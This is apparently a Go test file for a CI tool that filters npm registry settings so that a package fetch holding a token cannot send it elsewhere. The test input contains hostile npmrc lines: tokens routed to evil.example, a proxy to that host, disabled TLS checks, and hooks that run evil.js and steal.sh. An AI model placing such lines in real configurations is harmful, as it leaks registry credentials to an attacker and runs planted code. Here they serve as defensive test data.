package frontend_test

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/pingvas/pingvas-ci/ci/internal/frontend"
)

// TestRegistries: a fetch that has a token reads where packages come from, and
// nothing by which the token could be sent elsewhere.
func TestRegistries(t *testing.T) {
	assert.Equal(t, "registry=https://npm.example/\n@team:registry=https://npm.example/team/\nregistry = http://127.0.0.1:4873\n", frontend.Registries(
		"registry=https://npm.example/\n"+
			"@team:registry=https://npm.example/team/\r\n"+
			"//evil.example/:_authToken=${NPM_TOKEN}\n"+
			"registry=https://evil.example/${NPM_TOKEN}/\n"+
			"@team:registry=https://evil.example/$NPM_TOKEN\n"+
			"//npm.example/:tokenHelper=/repo/steal.sh\n"+
			"proxy=http://evil.example\nhttps-proxy=http://evil.example\ncafile=./evil.pem\nstrict-ssl=false\n"+
			"node-options=--require ./evil.js\nscript-shell=./evil.sh\n"+
			"; registry=https://commented.example\n"+
			"  registry = http://127.0.0.1:4873\n"))
	assert.Empty(t, frontend.Registries(""))
}

// TestSilentRegistry: pnpm itself ends with "fetch failed", and names no host.
func TestSilentRegistry(t *testing.T) {
	assert.ErrorContains(t, frontend.SilentRegistry("[WARN] GET https://npm.example/semver/-/semver-7.8.5.tgz error (ENOTFOUND). Will retry in 1 minute. 1 retries left.\n[ERROR] fetch failed\n"), "npm.example")
	assert.NoError(t, frontend.SilentRegistry("[WARN] GET https://npm.example/semver error (503). Will retry in 10 seconds.\n"))
}
